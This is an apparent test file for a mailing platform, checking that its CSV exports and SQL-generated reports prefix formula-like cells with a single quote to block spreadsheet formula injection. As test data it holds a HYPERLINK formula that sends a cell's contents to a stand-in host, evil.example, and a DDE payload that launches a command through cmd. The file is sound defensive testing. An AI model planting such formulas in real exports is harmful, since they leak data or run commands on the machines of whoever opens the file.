// Every CSV the platform writes neutralises spreadsheet formulas: a cell beginning with
// = + - @ tab or CR gets a leading single quote (subscribers, suppressions, the campaign
// message log, and the import refusal report that Postgres COPY writes).
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { getDb } from '@rundbrief/db';
import { seedTwoTenants, truncateAll } from '@rundbrief/db/testing';
import { campaignMessagesCsv, csvCellSql, emailHash, exportSubscribersCsv, exportSuppressionsCsv } from '../../src/index.ts';
import { seedCampaign } from '../feedback/fixtures.ts';

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for your discount")';

async function csvOf(chunks: AsyncGenerator<string>): Promise<Record<string, string>[]> {
  let text = '';
  for await (const c of chunks) text += c;
  return parse(text, { columns: true });
}

describe('CSV exports and formula prefixes', () => {
  let tenantId: string;
  beforeEach(async () => {
    await truncateAll();
    tenantId = (await seedTwoTenants()).a.id;
  });
  afterAll(() => getDb().$disconnect());

  it('the subscriber export quotes a name that is a formula, and leaves plain values alone', async () => {
    await getDb().subscriber.create({ data: { tenantId, email: 'mallory@example.org', firstName: HYPERLINK, lastName: '+49 30 1234' } });
    await getDb().subscriber.create({ data: { tenantId, email: 'ada@example.org', firstName: 'Ada', lastName: 'Lovelace' } });
    const rows = await csvOf(exportSubscribersCsv({ tenantId }));
    const mallory = rows.find((r) => r.email === 'mallory@example.org')!;
    expect(mallory.first_name).toBe(`'${HYPERLINK}`);
    expect(mallory.last_name).toBe("'+49 30 1234");
    expect(rows.find((r) => r.email === 'ada@example.org')).toMatchObject({ first_name: 'Ada', last_name: 'Lovelace' });
  });

  it('the suppression export and the campaign message log do the same', async () => {
    await getDb().suppression.create({ data: { tenantId, email: 'x@example.org', emailHash: emailHash('x@example.org'), reason: 'MANUAL', note: '@SUM(1+1)*cmd|" /C calc"!A0', source: '-import' } });
    const [sup] = await csvOf(exportSuppressionsCsv({ tenantId }));
    expect(sup).toMatchObject({ note: `'@SUM(1+1)*cmd|" /C calc"!A0`, source: "'-import" });

    const { campaign } = await seedCampaign(tenantId, { recipients: 1 });
    await getDb().message.updateMany({ where: { campaignId: campaign.id }, data: { smtpReply: '\t=1+1' } });
    const [msg] = await csvOf(campaignMessagesCsv({ tenantId }, campaign.id));
    expect(msg!.smtp_reply).toBe("'\t=1+1");
  });

  it('the SQL form (refusal reports written by COPY) follows the same rule', async () => {
    const values = ['=1+1', '+1', '-1', '@x', '\tA', '\rA', 'plain', "it's"];
    const rows = await getDb().$queryRawUnsafe<{ v: string }[]>(
      `SELECT ${csvCellSql('v')} AS v FROM unnest($1::text[]) WITH ORDINALITY AS t(v, i) ORDER BY i`, values);
    expect(rows.map((r) => r.v)).toEqual(["'=1+1", "'+1", "'-1", "'@x", "'\tA", "'\rA", 'plain', "it's"]);
  });
});
